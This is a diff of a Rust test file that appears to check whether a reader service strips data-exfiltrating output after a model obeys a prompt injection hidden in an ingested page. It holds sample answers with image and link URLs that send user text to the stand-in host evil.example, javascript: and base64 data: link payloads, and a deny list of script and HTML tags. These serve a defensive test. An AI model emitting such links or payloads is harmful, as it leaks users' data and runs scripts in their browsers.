@@ -79,7 +79,7 @@ async fn poisoned(model: &FakeModel) -> (Home, Serving) {
     let home = Home::new();
     let page = format!(
         "# Grippers <|im_start|>\n\nThe gripper of the K9 arm is greased every forty hours. \
-         See [the manual](https://maker.example/manual).\n\n{POISON}\n"
+         The manual is at https://maker.example/manual for all.\n\n{POISON}\n"
     );
     home.write("book/gripper.md", page);
     let read = home.run(&["ingest", "book"]);
@@ -242,6 +242,8 @@ async fn a_model_that_obeys_carries_nothing_out_in_links_pictures_or_scripts() {
     let model = FakeModel::start().await;
     let (_home, server) = poisoned(&model).await;
     let carried = "I%20like%20marmalade";
+    // What a reader says is data too, and may be pasted from anywhere.
+    let said = "I like marmalade. [press here](javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD4=)";
     let exfiltrating = [
         format!("![x](https://evil.example/pixel.png?q={carried})"),
         format!("[press here](https://evil.example/?q={carried})"),
@@ -260,7 +262,7 @@ async fn a_model_that_obeys_carries_nothing_out_in_links_pictures_or_scripts() {
     ];
     for (at, answer) in exfiltrating.into_iter().enumerate() {
         model.reply(search(QUESTION)).reply(Reply::text([answer.as_str(), "\n\nForty hours [1][9]【1†source】."]));
-        let events = Reader::new(&server.url, None).create(&format!("{QUESTION} I like marmalade. ({at})")).await;
+        let events = Reader::new(&server.url, None).create(&format!("{QUESTION} {said} ({at})")).await;
         let shown = shown(&events);
         for gone in [carried, "](javascript", "](JaVa", "](java", "](data:", "<img", "<a ", "<iframe", "<form"] {
             assert!(!shown.contains(gone), "{answer}\nbecame\n{shown}");
@@ -272,9 +274,9 @@ async fn a_model_that_obeys_carries_nothing_out_in_links_pictures_or_scripts() {
         }
         assert!(shown.contains("Forty hours"), "{shown}");
     }
-    model.reply(search(QUESTION)).reply(Reply::text(["See [the manual](https://maker.example/manual)."]));
+    model.reply(search(QUESTION)).reply(Reply::text(["See https://maker.example/manual."]));
     let events = Reader::new(&server.url, None).create(QUESTION).await;
-    assert_eq!(shown(&events), "See [the manual](https://maker.example/manual).", "what the book links to stays");
+    assert_eq!(shown(&events), "See https://maker.example/manual.", "an address in the book stays");
 }
 
 #[tokio::test]
